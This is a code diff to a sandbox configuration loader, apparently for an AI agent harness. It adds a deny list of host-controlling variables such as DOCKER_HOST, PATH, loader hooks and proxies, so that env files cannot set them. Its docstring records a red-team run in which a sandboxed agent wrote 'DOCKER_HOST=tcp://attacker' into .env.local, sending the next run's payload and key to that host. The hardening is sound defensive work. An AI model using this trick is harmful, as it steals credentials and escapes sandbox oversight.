@@ -9,6 +9,12 @@ Decision on bad names: a line whose name is not a valid environment variable nam
 `npm_config_//registry/:_authToken=...`) is skipped with a *warning*, not an error. Such names cannot be
 passed to a container anyway, and real `.env` files carry them for other tools; refusing to run because
 of them would punish an unrelated line. Undecodable or unreadable files are errors.
+
+Decision on names that configure this tool itself (`DOCKER_HOST`, `SANDBOX_USER`, `XDG_CACHE_HOME`, `HOME`,
+`PATH`, proxy and CA variables, loader and interpreter hooks): never taken from an env file, skipped with a
+warning. An env file is data that may sit in the workspace a sandboxed Expert writes (a red-team run wrote
+`DOCKER_HOST=tcp://attacker` to `.env.local`, and the next run sent its stdin payload, the key included, to
+that engine); what steers the host comes from the process environment or the command line only.
 """
 
 from __future__ import annotations
@@ -24,9 +30,26 @@ from sandbox._errors import ConfigError, ConfigIssue
 from ._issues import show
 from ._validators import validate_env_name
 
-__all__ = ["load_env_files"]
+__all__ = ["HOST_ONLY_PREFIXES", "HOST_ONLY_VARS", "is_host_only", "load_env_files"]
 
 _log = logging.getLogger("sandbox.config")
+
+HOST_ONLY_PREFIXES = ("DOCKER_", "SANDBOX_", "COMPOSE_", "BUILDKIT_", "XDG_", "LD_", "DYLD_", "PYTHON",
+                      "NODE_", "NPM_CONFIG_", "GIT_")
+"""Prefixes of variables that configure the host's tools: the Docker client and Compose, this tool, the
+user's directories, the dynamic loader, Python, Node/npm and git (hooks, config paths)."""
+HOST_ONLY_VARS = frozenset({
+    "HOME", "PATH", "USER", "LOGNAME", "SHELL", "TMPDIR", "TMP", "TEMP", "PWD", "IFS", "ENV", "BASH_ENV",
+    "HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "ALL_PROXY", "FTP_PROXY",
+    "SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE",
+})
+"""Exact names (compared upper-cased, so `https_proxy` is one of them too)."""
+
+
+def is_host_only(name: str) -> bool:
+    """Whether `name` configures the host tool itself and so is never read from an env file."""
+    upper = name.upper()
+    return upper in HOST_ONLY_VARS or upper.startswith(HOST_ONLY_PREFIXES)
 
 
 def load_env_files(
@@ -39,7 +62,8 @@ def load_env_files(
 
     Missing files are skipped silently (Perstack's default `[".env", ".env.local"]` rarely both exist).
     Keys without a value (`FOO` alone on a line) are skipped. Names that are not valid environment
-    variable names are skipped and reported as warnings, appended to `warnings` when given, else logged.
+    variable names, and names that configure the host tool (`is_host_only`), are skipped and reported as
+    warnings, appended to `warnings` when given, else logged.
     Raises ConfigError for a file that exists but cannot be read as UTF-8 text.
     """
     merged: dict[str, str] = {}
@@ -60,15 +84,16 @@ def load_env_files(
             errors.append(ConfigIssue(file=label, path="", message=f"cannot be read: {exc}"))
             continue
         for name, value in values.items():
+            problem = None
             try:
                 validate_env_name(name)
             except ValueError:
-                bad = ConfigIssue(
-                    file=label,
-                    path=show(name),
-                    message="skipped: not a valid environment variable name",
-                    severity="warning",
-                )
+                problem = "skipped: not a valid environment variable name"
+            if problem is None and is_host_only(name):
+                problem = ("skipped: it configures the host tool itself, which an env file may not do "
+                           "(set it in the environment instead)")
+            if problem is not None:
+                bad = ConfigIssue(file=label, path=show(name), message=problem, severity="warning")
                 if warnings is not None:
                     warnings.append(bad)
                 else:
